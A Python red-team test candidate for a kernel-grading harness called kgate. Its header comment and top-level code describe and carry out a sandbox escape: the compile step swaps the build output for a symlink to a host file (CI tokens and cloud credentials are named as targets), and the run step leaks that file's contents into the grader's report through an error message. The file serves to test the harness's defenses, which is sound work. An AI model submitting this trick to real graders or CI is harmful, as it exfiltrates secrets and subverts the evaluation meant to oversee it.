# kgate red-team candidate (hostile): in the compile sandbox its top level replaces the build
# output /work/kernel.so with a symlink to a path on the *host* and exits 0; kgate's host side
# follows it (stat, then realpath for the run sandbox's bind mount), so the run sandbox shows the
# host file as /kgate/cand/kernel.so and the module, run there, quotes it in its LOAD error, which
# lands in the report. Here the target is kgate's own working directory's file through
# /proc/self/cwd (on a CI runner: .git/config with the checkout's token, ~/.aws/credentials ...).
# Right verdict: rejected (compile: the build output is not a regular file), nothing of the host shown.
# Now: the build's output is lstat'ed (a link is a compile error) and the top level can create no
# file at all.
import os
import sys

import torch
import torch.nn as nn

TARGET = os.environ.get("RT_TARGET", "/proc/self/cwd/README.md")
if "torch_build.py" in sys.argv[0]:  # the builder: argv = torch_build.py /work/kernel.py /work/kernel.so
    out = sys.argv[2]
    try:
        os.unlink(out)
    except OSError:
        pass
    os.symlink(TARGET, out)
    sys.stdout.flush()
    os._exit(0)
else:  # the run sandbox: what the host's file says, in the LOAD error
    with open("/kgate/cand/kernel.so", "rb") as fh:
        raise RuntimeError("host file: %r" % fh.read(300))


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=1)
